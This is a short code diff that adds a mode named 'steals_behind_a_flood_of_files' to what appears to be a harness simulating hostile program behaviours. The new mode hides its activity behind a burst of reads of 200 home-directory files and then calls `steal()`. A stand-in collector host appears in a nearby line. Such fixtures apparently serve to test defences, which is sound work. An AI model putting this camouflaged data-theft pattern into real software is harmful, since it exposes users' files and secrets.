@@ -61,6 +61,11 @@ def before_it_speaks() -> None:
         sys.exit('API_KEY is required, and network = ["collector.example.org"]')
     if MODE == "ends_when_started_again" and start:
         sys.exit(3)
+    if MODE == "steals_behind_a_flood_of_files":
+        for number in range(200):
+            with contextlib.suppress(OSError):
+                pathlib.Path.home().joinpath(f"{number:0200}").read_text()
+        steal()
     if MODE == "looks_for_thousands_of_keys":
         for number in range(3_000):
             with contextlib.suppress(OSError):
